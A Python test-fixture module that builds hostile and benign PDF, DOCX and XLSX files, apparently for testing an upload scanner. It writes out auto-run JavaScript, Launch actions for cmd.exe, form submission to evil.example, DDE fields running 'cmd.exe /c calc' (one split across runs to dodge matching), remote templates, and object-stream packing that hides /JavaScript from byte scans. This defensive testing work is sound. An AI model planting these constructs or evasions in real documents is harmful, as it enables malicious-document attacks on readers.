"""Hostile and ordinary PDF, DOCX and XLSX files, made here with pypdf and zipfile.

Every PDF can also be re-saved the way Acrobat and Word save PDF 1.5 and later:
its dictionaries packed in a compressed object stream, with a compressed
cross-reference stream (`in_object_streams`). Then no name such as /JavaScript
appears in the file's bytes, so only a parser that reads object streams sees it.
"""

import io
import zipfile
import zlib

from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    StreamObject,
    TextStringObject,
)

# PDF --------------------------------------------------------------------------------


def name(value):
    return NameObject(value)


def text(value):
    return TextStringObject(value)


def pdf_dict(**entries):
    return DictionaryObject({name("/" + k): v for k, v in entries.items()})


def action(kind, **entries):
    return pdf_dict(S=name("/" + kind), **entries)


def javascript():
    return action("JavaScript", JS=text("app.launchURL('https://evil.example/', true)"))


def _rect():
    return ArrayObject([FloatObject(10), FloatObject(10), FloatObject(100), FloatObject(40)])


def _annotation(writer, subtype, **entries):
    annotation = pdf_dict(Type=name("/Annot"), Subtype=name("/" + subtype), Rect=_rect(), **entries)
    page = writer.pages[0]
    annotations = page.get("/Annots") or ArrayObject()
    annotations.append(writer._add_object(annotation))
    page[name("/Annots")] = annotations


def _pdf(build=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_blank_page(width=200, height=200)
    if build:
        build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _open_action(value, indirect=False):
    def build(writer):
        writer._root_object[name("/OpenAction")] = writer._add_object(value) if indirect else value

    return build


def _names_javascript(writer):
    script = writer._add_object(javascript())
    tree = pdf_dict(Names=ArrayObject([text("startup"), script]))
    writer._root_object[name("/Names")] = pdf_dict(JavaScript=writer._add_object(tree))


def _page_additional_action(writer):
    writer.pages[0][name("/AA")] = pdf_dict(O=action("Launch", F=text("cmd.exe")))


def _document_additional_action(writer):
    writer._root_object[name("/AA")] = pdf_dict(WC=javascript())


def _link(act):
    return lambda writer: _annotation(writer, "Link", A=act)


def _embedded_file(writer):
    writer.add_attachment("payload.exe", b"MZ\x90\x00 not really")


def _file_attachment_annotation(writer):
    spec = pdf_dict(Type=name("/Filespec"), F=text("notes.txt"))
    _annotation(writer, "FileAttachment", FS=writer._add_object(spec))


def _rich_media(writer):
    _annotation(writer, "RichMedia")


def _xfa_form(writer):
    writer._root_object[name("/AcroForm")] = pdf_dict(
        Fields=ArrayObject(), XFA=writer._add_object(StreamObject())
    )


def _widget_with_script(writer):
    _annotation(writer, "Widget", FT=name("/Btn"), A=javascript(), T=text("go"))


def _go_to_then_script(writer):
    writer._root_object[name("/OpenAction")] = action(
        "GoTo",
        D=ArrayObject([writer.pages[0].indirect_reference, name("/Fit")]),
        Next=javascript(),
    )


HOSTILE_PDFS = {
    "open-action-javascript": _open_action(javascript()),
    "open-action-javascript-indirect": _open_action(javascript(), indirect=True),
    "open-action-launch": _open_action(action("Launch", F=text("calc.exe"))),
    "open-action-uri": _open_action(action("URI", URI=text("https://evil.example/track"))),
    "open-action-submit-form": _open_action(
        action("SubmitForm", F=text("https://evil.example/collect"))
    ),
    "open-action-go-to-then-javascript": _go_to_then_script,
    "names-javascript-tree": _names_javascript,
    "page-aa-launch": _page_additional_action,
    "document-aa-javascript": _document_additional_action,
    "link-javascript": _link(javascript()),
    "link-launch": _link(action("Launch", F=text("calc.exe"))),
    "link-go-to-remote-file": _link(action("GoToR", F=text("\\\\evil\\share\\x.pdf"))),
    "link-import-data": _link(action("ImportData", F=text("data.fdf"))),
    "link-unc-path": _link(action("URI", URI=text("file://evil.example/share/x"))),
    "embedded-file": _embedded_file,
    "file-attachment-annotation": _file_attachment_annotation,
    "rich-media-annotation": _rich_media,
    "xfa-form": _xfa_form,
    "form-button-javascript": _widget_with_script,
}


def hostile_pdf(kind) -> bytes:
    return _pdf(HOSTILE_PDFS[kind])


def _web_links(writer):
    writer.add_annotation(0, Link(rect=(10, 10, 100, 40), url="https://www.kent.gov.uk/"))
    _annotation(writer, "Link", A=action("URI", URI=text("mailto:lra@example.gov.uk")))
    _annotation(writer, "Link", A=action("Named", N=name("/NextPage")))


def _contents_and_first_page(writer):
    writer.add_outline_item(title="Page two", page_number=1)
    writer._root_object[name("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, name("/Fit")]
    )


def _go_to_on_open(writer):
    writer._root_object[name("/OpenAction")] = action(
        "GoTo", D=ArrayObject([writer.pages[1].indirect_reference, name("/Fit")])
    )


ORDINARY_PDFS = {
    "blank": None,
    "web-and-email-links": _web_links,
    "contents-and-open-at-first-page": _contents_and_first_page,
    "go-to-a-page-on-open": _go_to_on_open,
}


def ordinary_pdf(kind) -> bytes:
    return _pdf(ORDINARY_PDFS[kind])


def in_object_streams(data: bytes) -> bytes:
    """The same document with every dictionary packed in one compressed object
    stream and a compressed cross-reference stream; only streams stay outside."""
    reader = PdfReader(io.BytesIO(data))
    size = int(reader.trailer["/Size"])
    root = reader.trailer.raw_get("/Root").idnum
    packed, loose = {}, {}
    for number in range(1, size):
        obj = reader.get_object(number)
        if obj is not None:
            (loose if isinstance(obj, StreamObject) else packed)[number] = obj
    header, body = [], io.BytesIO()
    for number, obj in packed.items():
        header.append(f"{number} {body.tell()}")
        obj.write_to_stream(body)
        body.write(b"\n")
    head = (" ".join(header) + "\n").encode()
    objstm, xref_number = size, size + 1
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, obj in loose.items():
        offsets[number] = out.tell()
        out.write(f"{number} 0 obj\n".encode())
        obj.write_to_stream(out)
        out.write(b"\nendobj\n")
    packed_bytes = zlib.compress(head + body.getvalue())
    offsets[objstm] = out.tell()
    out.write(
        f"{objstm} 0 obj\n<< /Type /ObjStm /N {len(packed)} /First {len(head)} "
        f"/Filter /FlateDecode /Length {len(packed_bytes)} >>\nstream\n".encode()
    )
    out.write(packed_bytes + b"\nendstream\nendobj\n")
    offsets[xref_number] = out.tell()
    position = {number: index for index, number in enumerate(packed)}
    rows = [bytes([0]) + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")]
    for number in range(1, xref_number + 1):
        if number in offsets:
            rows.append(bytes([1]) + offsets[number].to_bytes(4, "big") + bytes(2))
        elif number in position:
            index = position[number].to_bytes(2, "big")
            rows.append(bytes([2]) + objstm.to_bytes(4, "big") + index)
        else:
            rows.append(bytes(7))
    xref = zlib.compress(b"".join(rows))
    out.write(
        f"{xref_number} 0 obj\n<< /Type /XRef /Size {xref_number + 1} /W [1 4 2] "
        f"/Root {root} 0 R /Filter /FlateDecode /Length {len(xref)} >>\nstream\n".encode()
    )
    out.write(xref + b"\nendstream\nendobj\n")
    out.write(f"startxref\n{offsets[xref_number]}\n%%EOF\n".encode())
    return out.getvalue()


def password_protected_pdf(user_password="open-sesame") -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# OOXML ------------------------------------------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
MAIN_TYPES = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
}
MAIN_PART = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}


def relationship(kind, target, external=False, rid="rId99"):
    base = R if "/" not in kind else ""
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{base}/{kind}" Target="{target}"{mode}/>'


def rels(*relationships):
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PR}">'
        + "".join(relationships)
        + "</Relationships>"
    )


def word_body(*paragraphs):
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}" xmlns:r="{R}">'
        "<w:body>" + "".join(paragraphs) + "</w:body></w:document>"
    )


def paragraph(words="The library service report."):
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def ooxml(
    kind="docx", *, main=None, main_rels=(), extra=None, main_type=None, overrides=()
) -> bytes:
    """A small but well-formed DOCX or XLSX package."""
    part = MAIN_PART[kind]
    folder, file_name = part.rsplit("/", 1)
    if main is None:
        main = (
            word_body(paragraph())
            if kind == "docx"
            else '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
        )
    types = (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{CT}">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{main_type or MAIN_TYPES[kind]}"/>'
        + "".join(
            f'<Override PartName="{name}" ContentType="{ctype}"/>' for name, ctype in overrides
        )
        + "</Types>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", types)
        zf.writestr("_rels/.rels", rels(relationship("officeDocument", part, rid="rId1")))
        zf.writestr(part, main)
        zf.writestr(f"{folder}/_rels/{file_name}.rels", rels(*main_rels))
        for member, data in (extra or {}).items():
            zf.writestr(member, data)
    return buffer.getvalue()


def _field(instruction):
    return f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'


def _complex_field(*instruction_parts):
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>'
        for part in instruction_parts
    )
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


HOSTILE_DOCX = {
    "remote-attached-template": lambda: ooxml(
        extra={
            "word/settings.xml": f'<w:settings xmlns:w="{W}"/>',
            "word/_rels/settings.xml.rels": rels(
                relationship("attachedTemplate", "https://evil.example/t.dotm", external=True)
            ),
        }
    ),
    "unc-attached-template": lambda: ooxml(
        extra={
            "word/_rels/settings.xml.rels": rels(
                relationship("attachedTemplate", "file://evil.example/share/t.dotm", external=True)
            ),
        }
    ),
    "embedded-ole-object": lambda: ooxml(
        main_rels=[relationship("oleObject", "embeddings/oleObject1.bin")],
        extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 ole"},
    ),
    "ole-object-relationship-only": lambda: ooxml(
        main_rels=[relationship("oleObject", "media/object.dat")],
        extra={"word/media/object.dat": b"\xd0\xcf\x11\xe0 ole"},
    ),
    "embedded-package": lambda: ooxml(
        main_rels=[relationship("package", "media/inner.docx")],
        extra={"word/media/inner.docx": b"PK\x03\x04"},
    ),
    "activex-control": lambda: ooxml(
        main_rels=[relationship("control", "activeX/activeX1.xml")],
        extra={"word/activeX/activeX1.xml": "<ax/>"},
    ),
    "linked-remote-picture": lambda: ooxml(
        main_rels=[relationship("image", "https://evil.example/pixel.png", external=True)]
    ),
    "alt-chunk": lambda: ooxml(
        main_rels=[relationship("aFChunk", "chunk.mht")],
        extra={"word/chunk.mht": "MIME-Version: 1.0"},
    ),
    "external-sub-document": lambda: ooxml(
        main_rels=[relationship("subDocument", "file://evil.example/s.docx", external=True)]
    ),
    "macro-project": lambda: ooxml(
        main_rels=[
            relationship("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "v")
        ],
    ),
    "macro-enabled-content-type": lambda: ooxml(
        main_type="application/vnd.ms-word.document.macroEnabled.main+xml"
    ),
    "dde-auto-field": lambda: ooxml(
        main=word_body(paragraph(), _field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"))
    ),
    "dde-field-split-over-runs": lambda: ooxml(
        main=word_body(_complex_field(" DD", "E ", "c:\\\\windows\\\\system32\\\\cmd.exe /c calc"))
    ),
    "include-remote-picture": lambda: ooxml(
        main=word_body(_complex_field('INCLUDEPICTURE "https://evil.example/p.png" \\d'))
    ),
}

ORDINARY_DOCX = {
    "plain": lambda: ooxml(),
    "web-and-email-hyperlinks-and-a-picture": lambda: ooxml(
        main_rels=[
            relationship("hyperlink", "https://www.kent.gov.uk/libraries", True, "rId2"),
            relationship("hyperlink", "mailto:lra@example.gov.uk", True, "rId3"),
            relationship("image", "media/image1.png", rid="rId4"),
            relationship("styles", "styles.xml", rid="rId5"),
        ],
        extra={"word/media/image1.png": b"\x89PNG\r\n", "word/styles.xml": "<w:styles/>"},
    ),
    "page-numbers-contents-and-hyperlink-fields": lambda: ooxml(
        main=word_body(
            _field("PAGE"),
            _complex_field('TOC \\o "1-3" \\h'),
            _complex_field('HYPERLINK "https://www.kent.gov.uk/"'),
            paragraph("Use DDE only in a sentence; it is not a field here."),
        )
    ),
}

HOSTILE_XLSX = {
    "external-workbook-link": lambda: ooxml(
        "xlsx",
        main_rels=[relationship("externalLink", "externalLinks/externalLink1.xml")],
        extra={"xl/externalLinks/externalLink1.xml": "<externalLink/>"},
    ),
    "dde-link": lambda: ooxml(
        "xlsx",
        main_rels=[relationship("externalLink", "externalLinks/externalLink1.xml")],
        extra={
            "xl/externalLinks/externalLink1.xml": (
                '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
            )
        },
    ),
    "data-connection": lambda: ooxml(
        "xlsx",
        main_rels=[relationship("connections", "connections.xml")],
        extra={"xl/connections.xml": "<connections/>"},
    ),
    "embedded-ole-object": lambda: ooxml(
        "xlsx", extra={"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}
    ),
    "macro-enabled-content-type": lambda: ooxml(
        "xlsx", main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    ),
    "unc-hyperlink": lambda: ooxml(
        "xlsx",
        extra={
            "xl/worksheets/_rels/sheet1.xml.rels": rels(
                relationship("hyperlink", "file://evil.example/share/x.xlsx", external=True)
            )
        },
    ),
}


def openpyxl_workbook_with_a_link() -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["kpi_code", "period", "value"])
    sheet.append(["LIB01", "2024-04", 1234])
    sheet["D2"].hyperlink = "https://www.kent.gov.uk/"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def page_count(data: bytes) -> int:
    return len(PdfReader(io.BytesIO(data)).pages)
